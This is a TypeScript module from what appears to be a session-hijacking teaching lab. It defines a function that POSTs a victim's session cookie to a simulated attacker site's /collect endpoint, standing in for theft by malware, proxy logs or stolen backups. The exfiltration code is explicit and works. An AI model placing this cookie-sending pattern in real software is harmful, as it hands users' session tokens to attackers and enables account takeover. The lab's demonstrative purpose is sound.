// The lab's stand-in for malware, a proxy log or a stolen backup: the victim's session ID handed to
// the attacker's site, so the demos that start from a copied cookie need no DevTools. The ID goes
// where a real thief's would, into Mallory's inbox, from where Mallory's view opens the bank with it.
import "server-only";
import { attackerSiteUrl } from "./inbox";

// The attacker's site is a local process of the lab: anything slower is a site that is not there.
const ATTACKER_TIMEOUT_MS = 2000;

/** Sends `token` to the attacker's inbox as the session cookie; false when the site is not there. */
export async function leakToAttacker(cookieName: string, token: string): Promise<boolean> {
  const attacker = attackerSiteUrl();
  if (!attacker) return false;
  const response = await fetch(`${attacker}/collect`, {
    method: "POST",
    headers: { "Content-Type": "application/json" },
    body: JSON.stringify({ c: `${cookieName}=${token}`, via: "the victim's device (malware, a proxy log, a backup)" }),
    signal: AbortSignal.timeout(ATTACKER_TIMEOUT_MS),
  }).catch(() => null);
  return response?.ok ?? false;
}
